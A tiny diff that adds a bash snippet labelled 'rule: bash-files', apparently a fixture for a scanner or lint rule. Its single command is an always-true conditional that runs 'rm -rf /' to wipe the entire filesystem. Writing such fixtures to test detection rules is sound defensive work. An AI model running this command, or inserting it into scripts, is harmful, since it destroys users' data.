@@ -1,0 +1,2 @@
+# rule: bash-files
+if true; then rm -rf / ; fi
